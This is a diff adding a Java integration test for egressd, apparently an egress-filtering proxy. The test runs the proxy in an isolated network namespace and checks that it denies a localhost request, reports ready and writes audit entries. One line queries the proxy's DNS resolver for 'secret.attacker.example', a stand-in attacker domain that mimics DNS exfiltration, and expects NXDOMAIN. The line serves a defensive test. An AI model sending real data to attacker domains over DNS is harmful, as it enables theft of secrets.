@@ -1,6 +1,7 @@
 package io.egressd.cli;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.awaitility.Awaitility.await;
 
 import com.sun.net.httpserver.HttpServer;
 import java.io.BufferedReader;
@@ -12,6 +13,7 @@ import java.net.Socket;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.time.Duration;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.concurrent.TimeUnit;
@@ -195,6 +197,40 @@ class ServeIT {
         String denied = run("curl", "-s", "-i", "-x", proxy, "http://other.example.com/");
         assertThat(denied).startsWith("HTTP/1.1 403").contains("server: app").contains("host_not_allowed");
         assertThat(upstreamRequests).hasValue(1);
+    }
+
+    @Test
+    void withoutAConfigItServesTheDefaultsInItsOwnNetworkNamespace() throws Exception {
+        // The defaults bind fixed ports (3128, 5053, 9464): in a network namespace of its own (root
+        // only; this test's, with nothing but loopback) they cannot clash with anything on this host.
+        allowlists("allowlists", "app", "server: app\nclients:\n  sources: [127.0.0.1/32]\nallow:\n"
+                + "  - host: allowed.example.com\n");
+        ProcessBuilder pb = new ProcessBuilder("unshare", "--net", "sh", "-c", "ip link set lo up && exec \"$0\" serve",
+                CliIT.ROOT.resolve("bin/egressd").toString()).directory(dir.toFile())
+                .redirectOutput(dir.resolve("audit.out").toFile());
+        serve = pb.start();
+        serve.getOutputStream().close();
+
+        Matcher ready = awaitReady(serve);
+        assertThat(ready.group(1)).isEqualTo("3128");
+        assertThat(ready.group(2)).isEqualTo("5053");
+        assertThat(ready.group(3)).isEqualTo("9464");
+        assertThat(ready.group(4)).isEqualTo("1");
+        String inside = String.valueOf(serve.pid());
+
+        // ./allowlists decides: the client is app by its source address, localhost is denied for everyone.
+        String denied = run("nsenter", "-t", inside, "-n", "curl", "-s", "-i", "-x", "http://127.0.0.1:3128",
+                "http://localhost:8080/");
+        assertThat(denied).startsWith("HTTP/1.1 403").contains("X-Egressd-Denied: denied_by_global_rule")
+                .contains("server: app");
+        assertThat(run("nsenter", "-t", inside, "-n", "curl", "-s", "http://127.0.0.1:9464/readyz"))
+                .startsWith("ready");
+        String nx = run("nsenter", "-t", inside, "-n", "dig", "@127.0.0.1", "-p", "5053", "+time=2", "+tries=1",
+                "secret.attacker.example", "A");
+        assertThat(nx).contains("status: NXDOMAIN");
+        // The audit trail goes to standard output by default.
+        await().atMost(Duration.ofSeconds(5)).until(() -> Files.readString(dir.resolve("audit.out"))
+                .contains("\"reason\":\"denied_by_global_rule\""));
     }
 
     @Test
